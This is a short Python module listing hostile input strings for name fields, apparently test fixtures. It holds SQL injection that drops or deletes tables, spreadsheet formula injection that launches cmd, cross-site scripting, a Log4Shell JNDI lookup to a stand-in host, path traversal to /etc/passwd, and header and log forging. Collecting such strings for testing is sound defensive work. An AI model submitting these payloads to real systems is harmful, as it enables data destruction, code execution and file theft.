"""What strangers write into names in the hope that somebody executes it (row 19)."""

from __future__ import annotations

STRINGS = (
    "'; DROP TABLE customers; --",
    '" OR "1"="1',
    "1; SELECT pg_sleep(9)",
    "Robert'); DELETE FROM calls;--",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)",
    "\tTab=1",
    "\r=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    "${jndi:ldap://x.example/a}",
    "%n%s%x",
    "../../../etc/passwd",
    "..\\..\\boot.ini",
    "a\nlevel=ERROR forged line",
    "a\r\nSet-Cookie: x=1",
    "\u202egnp.exe",
    "\x1b[31mred",
    "\ufeff\u2028\u0085x",
)
